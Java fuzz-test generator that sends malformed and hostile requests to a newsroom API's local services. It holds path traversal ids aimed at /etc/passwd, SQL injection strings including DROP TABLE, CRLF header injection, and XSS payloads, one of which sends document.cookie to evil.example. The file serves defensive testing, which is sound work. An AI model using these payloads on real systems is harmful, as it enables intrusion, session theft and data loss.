package io.newsroom.e2e.fuzz;

import io.newsroom.e2e.fuzz.HostileRequest.Target;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

/**
 * Generates malformed and hostile requests for the public API and the services behind it: invalid JSON, wrong types,
 * bodies over the limits (declared or chunked), invalid UTF-8, binary, deeply nested HTML, scripts, header injection,
 * traversal in ids, and requests that are not HTTP/1.1 as written (request line, headers, lengths).
 * Every body that could be stored carries the run's marker, so stored rows can be counted afterwards.
 */
final class HostileRequests {

    private static final String ARTICLES = "/api/v1/articles";
    private static final List<String> HOSTILE_IDS = List.of("..%2F..%2F..%2Fetc%2Fpasswd", "../../../../etc/passwd",
            "..%5C..%5Cwindows%5Cwin.ini", "%2e%2e/%2e%2e/q/health", "00000000-0000-0000-0000-000000000000%00.json",
            "' OR '1'='1", "%27%20OR%201%3D1--", "<script>alert(1)</script>", "%3Cscript%3E", "..;/..;/admin/v1/partners",
            "%252e%252e%252f", "%C0%AE%C0%AE%2F", "x".repeat(5000), "%FF%FE", "1e309", "null", "{id}", "*");

    private final Random random;
    private final String marker;
    private final Map<Target, Supplier<String>> bearer;

    HostileRequests(long seed, String marker, Map<Target, Supplier<String>> bearer) {
        this.random = new Random(seed);
        this.marker = marker;
        this.bearer = bearer;
    }

    HostileRequest next(int index) {
        Target target = index % 10 < 5 ? Target.GATEWAY : index % 10 < 8 ? Target.ARTICLE_SERVICE : Target.EXTRACTION_SERVICE;
        // bodies over the limits are costly: one request in 400, in turn to each target, declared or chunked,
        // over the content limits (3 MiB) or over the transport limits too (17 MiB)
        if (index % 400 == 7) {
            int round = index / 400;
            return huge(Target.values()[round % 3], (round / 3) % 2 == 0 ? 17 * 1024 * 1024 : 3 * 1024 * 1024,
                    (round / 6) % 2 == 1);
        }
        return switch (random.nextInt(12)) {
            case 0 -> post(target, "invalid JSON", invalidJson(), false);
            case 1 -> post(target, "wrong types", wrongTypes(), false);
            case 2 -> post(target, "invalid UTF-8", invalidUtf8(), false);
            case 3 -> binary(target);
            case 4 -> post(target, "deeply nested HTML", submission(nestedHtml(), "text/html"), true);
            case 5 -> post(target, "script in HTML", submission(scriptHtml(), "text/html"), true);
            case 6 -> headerInjection(target);
            case 7 -> traversal(target);
            case 8 -> post(target, "invalid field values", invalidValues(), false);
            case 9 -> queryGarbage(target);
            case 10 -> brokenFraming(target);
            default -> wrongMethodOrMediaType(target);
        };
    }

    private HostileRequest post(Target target, String kind, byte[] body, boolean mayBeStored) {
        return new HostileRequest(kind, target, "POST", submitPath(target), headers(target, "application/json"), body, mayBeStored);
    }

    private static String submitPath(Target target) {
        return target == Target.EXTRACTION_SERVICE ? "/api/v1/extract" : ARTICLES;
    }

    private Map<String, String> headers(Target target, String contentType) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Host", "127.0.0.1:" + target.port);
        headers.put("Authorization", "Bearer " + bearer.get(target).get());
        if (contentType != null) {
            headers.put("Content-Type", contentType);
        }
        headers.put("X-Request-Id", "fuzz-" + marker + "-" + random.nextInt(1_000_000));
        return headers;
    }

    private byte[] submission(String content, String contentType) {
        return ("{\"content\":" + quoted(content) + ",\"contentType\":\"" + contentType + "\"}").getBytes(StandardCharsets.UTF_8);
    }

    private byte[] invalidJson() {
        String valid = new String(submission(marker + " Mayor Ada Lovelace said the budget was fine.", "text/plain"),
                StandardCharsets.UTF_8);
        return switch (random.nextInt(8)) {
            case 0 -> valid.substring(0, 1 + random.nextInt(valid.length() - 1)).getBytes(StandardCharsets.UTF_8);
            case 1 -> (valid + "}}garbage").getBytes(StandardCharsets.UTF_8);
            case 2 -> valid.replace("\":", "\"=").getBytes(StandardCharsets.UTF_8);
            case 3 -> ("{'content': '" + marker + "', contentType: text/plain}").getBytes(StandardCharsets.UTF_8);
            case 4 -> "[".repeat(100_000).getBytes(StandardCharsets.UTF_8);
            case 5 -> ("{\"content\":\"" + marker + "\\uZZZZ\",\"contentType\":\"text/plain\"}").getBytes(StandardCharsets.UTF_8);
            case 6 -> new byte[0];
            default -> ("{\"content\":\"" + marker + "\",\"contentType\":\"text/plain\",\"content\":" + "{\"a\":".repeat(5000))
                    .getBytes(StandardCharsets.UTF_8);
        };
    }

    private byte[] wrongTypes() {
        String[] values = {"123", "true", "null", "[\"" + marker + "\"]", "{\"text\":\"" + marker + "\"}", "1.5e308", "-0"};
        String content = random.nextBoolean() ? values[random.nextInt(values.length)] : quoted(marker + " text");
        String contentType = random.nextBoolean() ? values[random.nextInt(values.length)] : "\"text/plain\"";
        if (content.startsWith("\"") && contentType.equals("\"text/plain\"")) {
            contentType = "42";
        }
        String extra = switch (random.nextInt(4)) {
            case 0 -> ",\"publishedAt\":" + values[random.nextInt(values.length)];
            case 1 -> ",\"externalId\":" + values[random.nextInt(values.length)];
            case 2 -> ",\"sourceUrl\":[1,2,3]";
            default -> "";
        };
        return ("{\"content\":" + content + ",\"contentType\":" + contentType + extra + "}").getBytes(StandardCharsets.UTF_8);
    }

    private byte[] invalidUtf8() {
        byte[] prefix = ("{\"content\":\"" + marker + " ").getBytes(StandardCharsets.UTF_8);
        byte[][] broken = {{(byte) 0xC3, (byte) 0x28}, {(byte) 0xE2, (byte) 0x82}, {(byte) 0xF0, (byte) 0x28, (byte) 0x8C, (byte) 0xBC},
                {(byte) 0xFF, (byte) 0xFE}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xC0, (byte) 0xAF}};
        byte[] bad = broken[random.nextInt(broken.length)];
        byte[] suffix = "\",\"contentType\":\"text/plain\"}".getBytes(StandardCharsets.UTF_8);
        byte[] body = new byte[prefix.length + bad.length + suffix.length];
        System.arraycopy(prefix, 0, body, 0, prefix.length);
        System.arraycopy(bad, 0, body, prefix.length, bad.length);
        System.arraycopy(suffix, 0, body, prefix.length + bad.length, suffix.length);
        return body;
    }

    private HostileRequest binary(Target target) {
        byte[] body = new byte[1 + random.nextInt(4096)];
        random.nextBytes(body);
        String[] types = {"application/json", "application/octet-stream", "text/plain", "multipart/form-data; boundary=x"};
        return new HostileRequest("binary", target, "POST", submitPath(target),
                headers(target, types[random.nextInt(types.length)]), body, false);
    }

    private HostileRequest huge(Target target, int size, boolean chunked) {
        StringBuilder content = new StringBuilder(size + 100).append(marker).append(' ');
        while (content.length() < size) {
            content.append("The council met again on Tuesday to discuss the harbour. ");
        }
        String kind = "huge body (" + size / (1024 * 1024) + " MiB" + (chunked ? ", chunked)" : ")");
        Map<String, String> headers = headers(target, "application/json");
        byte[] body = submission(content.toString(), "text/plain");
        String path = submitPath(target);
        return chunked ? HostileRequest.raw(kind, target, "POST", path, RawHttp.chunked("POST", path, headers, body))
                : new HostileRequest(kind, target, "POST", path, headers, body, false);
    }

    /** Requests that are not HTTP/1.1 as written: the HTTP layer refuses them before any route runs. */
    private HostileRequest brokenFraming(Target target) {
        String path = submitPath(target);
        String head = "Host: 127.0.0.1:" + target.port + "\r\nAuthorization: Bearer " + bearer.get(target).get()
                + "\r\nConnection: close\r\n";
        String[] requests = {
                "GET " + ARTICLES + "/' OR '1'='1 HTTP/1.1\r\n" + head + "\r\n",
                "GET " + ARTICLES + "/\u0001\u007f HTTP/1.1\r\n" + head + "\r\n",
                "FETCH-EVERYTHING\r\n\r\n",
                "GET " + ARTICLES + " HTTP/1.1x\r\n" + head + "\r\n",
                "GET " + ARTICLES + "/{id}|<x>^ HTTP/1.1\r\n" + head + "\r\n",
                "GET " + ARTICLES + " HTTP/1.1\r\n" + head + "X-Padding: " + "p".repeat(40_000) + "\r\n\r\n",
                "POST " + path + " HTTP/1.1\r\n" + head + "Content Type: application/json\r\nContent-Length: 2\r\n\r\n{}",
                "POST " + path + " HTTP/1.1\r\n" + head + "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}",
                "POST " + path + " HTTP/1.1\r\n" + head + "Content-Length: -5\r\n\r\n",
                "POST " + path + " HTTP/1.1\r\n" + head.substring(head.indexOf("\r\n") + 2)
                        + "Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"};
        String request = requests[random.nextInt(requests.length)];
        return HostileRequest.raw("broken HTTP framing", target, request.split("[ \r]", 2)[0], path,
                request.getBytes(StandardCharsets.ISO_8859_1));
    }

    private String nestedHtml() {
        int depth = 1_000 + random.nextInt(20_000);
        String tag = random.nextBoolean() ? "div" : "span";
        return "<html><body>" + ("<" + tag + ">").repeat(depth) + marker + " Mayor Ada Lovelace said on Monday \"we are ready\"."
                + ("</" + tag + ">").repeat(random.nextInt(depth)) + "</body></html>";
    }

    private String scriptHtml() {
        String[] payloads = {"<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
                "<svg onload=fetch('http://evil.example/'+document.cookie)>", "<iframe src=javascript:alert(1)></iframe>",
                "<a href=\"javascript:alert(1)\">click</a>", "<script>while(true){}</script>", "<style>@import 'http://evil.example';</style>",
                "<!--<script>-->alert(1)", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"};
        StringBuilder html = new StringBuilder("<html><head><title>").append(payloads[random.nextInt(payloads.length)])
                .append("</title></head><body><article><h1>").append(marker).append(" Harbour vote</h1>");
        for (int i = 0; i < 1 + random.nextInt(6); i++) {
            html.append("<p>Mayor Ada Lovelace said on Monday that the vote was close.")
                    .append(payloads[random.nextInt(payloads.length)]).append("</p>");
        }
        return html.append("</article></body></html>").toString();
    }

    private HostileRequest headerInjection(Target target) {
        Map<String, String> headers = headers(target, "application/json");
        String[] injected = {"X-Tenant: globex", "X-Forwarded-User: admin", "Set-Cookie: session=stolen", "tenant: globex",
                "X-Roles: admin", "Authorization: Bearer forged"};
        String injection = "\r\n" + injected[random.nextInt(injected.length)];
        switch (random.nextInt(6)) {
            case 0 -> headers.put("X-Request-Id", "fuzz" + injection);
            case 1 -> headers.put("X-Forwarded-For", "127.0.0.1, 10.0.0.1" + injection);
            case 2 -> headers.put("X-Forwarded-Host", "evil.example");
            case 3 -> headers.put("X-Tenant", "globex");
            case 4 -> headers.put("X-Request-Id", "x".repeat(10_000));
            default -> headers.put("X-Userinfo", "{\"tenant\":\"globex\",\"realm_access\":{\"roles\":[\"admin\"]}}");
        }
        return new HostileRequest("header injection", target, "POST", submitPath(target), headers,
                invalidValues(), false);
    }

    private HostileRequest traversal(Target target) {
        String id = HOSTILE_IDS.get(random.nextInt(HOSTILE_IDS.size()));
        String[] suffixes = {"", "/extraction", "/reprocess"};
        String suffix = suffixes[random.nextInt(suffixes.length)];
        String method = suffix.equals("/reprocess") ? "POST" : random.nextInt(4) == 0 ? "DELETE" : "GET";
        Target where = target == Target.EXTRACTION_SERVICE ? Target.GATEWAY : target;
        return new HostileRequest("path traversal in ids", where, method, ARTICLES + "/" + id + suffix,
                headers(where, null), new byte[0], false);
    }

    private byte[] invalidValues() {
        String[] bodies = {
                "{\"content\":\"\",\"contentType\":\"text/plain\"}",
                "{\"content\":\"   \",\"contentType\":\"text/plain\"}",
                "{\"content\":\"" + marker + "\",\"contentType\":\"application/x-msdownload\"}",
                "{\"content\":\"" + marker + "\"}",
                "{\"contentType\":\"text/plain\"}",
                "{\"content\":\"" + marker + "\",\"contentType\":\"text/plain\",\"publishedAt\":\"yesterday\"}",
                "{\"content\":\"" + marker + "\",\"contentType\":\"text/plain\",\"publishedAt\":\"2025-13-45\"}",
                "{\"content\":\"" + marker + "\",\"contentType\":\"text/plain\",\"sourceUrl\":\"javascript:alert(1)\"}",
                "{\"content\":\"" + marker + "\",\"contentType\":\"text/plain\",\"sourceUrl\":\"file:///etc/passwd\"}",
                "{\"content\":\"" + marker + "\",\"contentType\":\"text/plain\",\"externalId\":\"" + "e".repeat(300) + "\"}",
                "{}", "null", "[]", "\"just a string\"", "42"};
        return bodies[random.nextInt(bodies.length)].getBytes(StandardCharsets.UTF_8);
    }

    private HostileRequest queryGarbage(Target target) {
        String[] queries = {"limit=-1", "limit=0", "limit=100000", "limit=abc", "cursor=%00%01%02", "cursor=" + "A".repeat(3000),
                "status=%3Cscript%3E", "status=DELETED", "publishedFrom=notadate", "submittedTo=2025-02-30",
                "entityType=ALIEN", "q=%27%3B%20DROP%20TABLE%20articles%3B--", "q=" + "(".repeat(500), "tenant=globex",
                "entity=%00", "source=" + "%F0%9F%92%A5".repeat(200), "q=%FF%FE", "mentionsDate=2025-13-01",
                "mentionsDate=XXXX-05-19", "mentionsDateFrom=2025-06&mentionsDateTo=2025-05", "fields=content,secret",
                "publishedFrom=2025-06-01&publishedTo=2025-05-31"};
        Target where = target == Target.EXTRACTION_SERVICE ? Target.ARTICLE_SERVICE : target;
        return new HostileRequest("query garbage", where, "GET", ARTICLES + "?" + queries[random.nextInt(queries.length)],
                headers(where, null), new byte[0], false);
    }

    private HostileRequest wrongMethodOrMediaType(Target target) {
        String[] methods = {"PUT", "PATCH", "DELETE", "TRACE", "OPTIONS", "POST"};
        String method = methods[random.nextInt(methods.length)];
        String[] types = {"text/xml", "application/x-www-form-urlencoded", "application/javascript", null};
        byte[] body = method.equals("POST") || random.nextBoolean()
                ? ("{\"content\":\"" + marker + " text\",\"contentType\":\"text/plain\"}").getBytes(StandardCharsets.UTF_8)
                : new byte[0];
        String path = method.equals("POST") ? submitPath(target) : target == Target.EXTRACTION_SERVICE ? "/api/v1/extract" : ARTICLES;
        String type = method.equals("POST") ? types[random.nextInt(types.length)] : "application/json";
        // well-formed JSON sent without any Content-Type may be taken as JSON: lenient, not hostile
        boolean lenient = method.equals("POST") && type == null;
        return new HostileRequest("wrong method or media type", target, method, path, headers(target, type), body, lenient);
    }

    private static String quoted(String text) {
        StringBuilder json = new StringBuilder(text.length() + 16).append('"');
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            switch (c) {
                case '"' -> json.append("\\\"");
                case '\\' -> json.append("\\\\");
                case '\n' -> json.append("\\n");
                case '\r' -> json.append("\\r");
                case '\t' -> json.append("\\t");
                default -> {
                    if (c < 0x20) {
                        json.append(String.format("\\u%04x", (int) c));
                    } else {
                        json.append(c);
                    }
                }
            }
        }
        return json.append('"').toString();
    }
}
